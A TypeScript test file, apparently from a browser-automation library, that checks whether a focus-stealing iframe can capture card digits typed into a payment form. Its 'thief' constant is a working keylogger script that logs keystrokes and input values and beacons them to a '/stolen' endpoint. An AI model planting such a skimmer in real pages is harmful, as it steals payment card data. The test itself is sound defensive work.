import { beforeAll, expect, it } from "vitest";
import type { BrowserPool } from "../../src/index.ts";
import { buyByCard, cardAsTyped, sentCard } from "../card-forms/card-purchase.ts";
import { sharedPool } from "../support/shared-pool.ts";

let pool: BrowserPool;
beforeAll(async () => {
  pool = await sharedPool();
});

const thief = `<input id="catch"><script>
  const send = (what) => navigator.sendBeacon('/stolen', new URLSearchParams({ what }));
  addEventListener('keydown', ({ key }) => send(key), true);
  addEventListener('input', ({ target }) => send(target.value), true);
  setInterval(() => { window.focus(); document.getElementById('catch').focus(); }, 1);</script>`;

it("a frame that takes the keyboard while the card is typed gets no key of it", async () => {
  // The field hears keys alone: what is set at once is undone.
  const form = `<label>Card number <input name="number"></label><label>Expiry <input name="expiry" placeholder="MM/YY"></label>
    <label>CVC <input name="cvc"></label><iframe id="ad" height="80"></iframe><script>
    ad.src = '//card-fields.localhost:' + location.port + '/thief';
    let typed = '';
    const number = document.getElementsByName('number')[0];
    number.addEventListener('keydown', ({ key }) => { if (/^\\d$/.test(key)) typed += key; });
    number.addEventListener('input', () => { if (number.value.replace(/ /g, '') !== typed) number.value = typed; });</script>`;
  const { shop } = await buyByCard(pool, form, { pages: { "/thief": thief, "/stolen": "{}" } });

  expect(shop.orders.map(sentCard)).toEqual([cardAsTyped]);
  expect(shop.visits.filter(({ path }) => path === "/stolen")).toEqual([]);
});

it.each([
  ["comes", "number.addEventListener('focus', () => setTimeout(come, 5))"],
  ["comes with the first key", "number.addEventListener('keydown', ({ isTrusted }) => isTrusted && come())"],
])(
  "a frame that %s while the browser's own keyboard types gets no more than one key",
  async (_when, listen) => {
    // The field hears the browser's own keys alone.
    const form = `<label>Card number <input name="number" id="number"></label><label>Expiry <input name="expiry" placeholder="MM/YY"></label>
    <label>CVC <input name="cvc"></label><script>
    let typed = '';
    number.addEventListener('keydown', ({ key, isTrusted }) => { if (isTrusted && /^\\d$/.test(key)) typed += key; });
    number.addEventListener('input', () => { if (number.value.replace(/ /g, '') !== typed) number.value = typed; });
    let frame;
    const come = () => {
      if (frame) return;
      frame = document.createElement('iframe');
      frame.src = '//card-fields.localhost:' + location.port + '/thief';
      document.body.append(frame);
    };
    ${listen}</script>`;
    const { shop } = await buyByCard(pool, form, { pages: { "/thief": thief, "/stolen": "{}" } });

    // The field is emptied with the key "Delete".
    const stolen = shop.visits
      .filter(({ path, sent }) => path === "/stolen" && sent.what !== "Delete")
      .map(({ sent }) => sent.what ?? "");
    expect(Math.max(0, ...stolen.map(({ length }) => length))).toBeLessThanOrEqual(1);
    expect(stolen.length).toBeLessThanOrEqual(2);
  },
);
